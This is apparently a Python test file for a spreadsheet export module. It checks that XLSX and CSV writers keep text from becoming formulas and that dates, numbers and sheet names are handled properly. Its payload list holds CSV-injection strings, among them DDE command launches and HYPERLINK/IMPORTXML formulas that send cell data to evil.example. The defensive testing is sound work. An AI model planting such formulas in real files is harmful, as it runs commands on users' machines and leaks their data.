"""Exports: text stays text in every writer, numbers and dates stay what they are."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from openpyxl import Workbook

from core.sheets import book, writer
from core.sheets.child import unguarded
from core.workbooks import saved
from tests.core.sheet_forms import LEADER, MEMBER, group_form

# What spreadsheets would run, and what comes near it. See OWASP, CSV injection.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "+86 138 0000 0000",
    "-",
    "=",
    "@用户",
    "#N/A",
    "#REF!",
    "TRUE",
    "00123",
    "1E5",
    "2011-11-25",
    "http://example.com",
    "{=1+1}",
    "甲\n=1+1",
    'a"b,c;d',
]  # fmt: skip
COLUMNS = [("text", "文字"), ("number", "数"), ("day", "日期")]


def rows(texts):
    return [{"text": text, "number": -5, "day": date(2011, 11, 25)} for text in texts]


def opened(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_a_formula_in_a_big_export(payload):
    sheet = opened(writer.write(COLUMNS, rows([payload])))
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == payload.replace("\r", "\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_a_formula_where_openpyxl_writes(payload):
    workbook = Workbook()
    book.put(workbook.active, 1, 1, payload)
    cell = opened(saved(workbook))["A1"]
    assert cell.data_type == "s"
    assert cell.value == payload.replace("\r", "\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_a_formula_in_a_csv_and_it_comes_back_unchanged(payload):
    content = b"".join(writer.write_csv(COLUMNS, rows([payload]))).decode("utf-8-sig")
    ((written, number, day),) = list(csv.reader(io.StringIO(content, newline="")))[1:]
    assert written[:1] not in set("=+@\t\r\n＝＋－＠")
    assert not written.startswith("-") or written == "-5"
    assert unguarded(written) == payload.replace("\r", "\n")
    assert (number, day) == ("-5", "2011-11-25")


def test_a_template_filled_with_formulas_holds_only_texts():
    form = group_form(min_rows=0, checks=None, key=None)
    sheet = opened(form.template([{**LEADER, "remark": text} for text in PAYLOADS]))
    cells = [cell for row in sheet for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [sheet[f"J{n}"].value for n in (4, 5)] == PAYLOADS[:2]


def test_what_was_exported_from_a_form_can_be_imported_again():
    form = group_form()
    stored = form.clean([{**LEADER, "remark": "=1+1", "from_on": "2011-11-01"}, MEMBER]).rows
    for name, content in (
        ("a.xlsx", writer.write(form.columns, stored, sheet=form.sheet_name)),
        ("a.csv", b"".join(writer.write_csv(form.columns, stored))),
    ):
        read = form.read(io.BytesIO(content), name=name)
        assert read.problems == []
        assert read.rows == stored


def test_numbers_dates_and_instants_stay_what_they_are():
    noon = datetime(2011, 11, 25, 4, 30, tzinfo=UTC)
    values = [1, 1.5, Decimal("12.50"), noon, True, None, 123456789012345678]
    columns = [("v", "值"), ("d", "日"), ("t", "时")]
    sheet = opened(
        writer.write(columns, [{"v": v, "d": date(2011, 11, 25), "t": noon} for v in values])
    )
    assert [cell.value for cell in sheet["A"]][1:] == [
        1, 1.5, 12.5, "2011-11-25 12:30:00", "是", None, "123456789012345678",
    ]  # fmt: skip
    assert sheet["B2"].value.date() == date(2011, 11, 25)
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    # the clock of Shanghai, eight hours before UTC
    assert (sheet["C2"].value.hour, sheet["C2"].number_format) == (12, "yyyy-mm-dd hh:mm")


def test_signs_that_no_workbook_can_hold_are_left_out_and_long_texts_cut():
    bad = "a\x00\x01\x0b\ud800b"
    sheet = opened(writer.write(COLUMNS, rows([bad, "长" * 40_000])))
    assert sheet["A2"].value == "ab"
    assert len(sheet["A3"].value) == 32_767
    workbook = Workbook()
    assert book.put(workbook.active, 1, 1, bad).value == "ab"


def test_an_empty_export_still_has_its_headings():
    sheet = opened(writer.write(COLUMNS, []))
    assert [cell.value for cell in sheet[1]] == ["文字", "数", "日期"]


def test_rows_are_taken_one_by_one():
    seen = []

    def source():
        for number in range(5000):
            seen.append(number)
            yield {"text": f"t{number}"}

    pieces = writer.write_csv(COLUMNS, source())
    next(pieces), next(pieces)
    assert len(seen) < 300
    assert opened(writer.write(COLUMNS, source())).max_row == 5001


def test_headings_may_repeat_and_sheet_names_are_made_legal():
    content = writer.write(
        [("a", "值"), ("b", "值")], [{"a": 1, "b": 2}], sheet="2011/11:[一]*?" * 5
    )
    sheet = opened(content)
    assert [cell.value for cell in sheet[1]] == ["值", "值 2"]
    assert [cell.value for cell in sheet[2]] == [1, 2]
    assert len(sheet.title) <= 31


def test_too_many_rows_are_refused_and_not_cut(monkeypatch):
    monkeypatch.setattr(writer, "ROW_LIMIT", 3)
    with pytest.raises(ValueError, match="行数超过 Excel 上限 3"):
        writer.write(COLUMNS, rows(["a"] * 4))
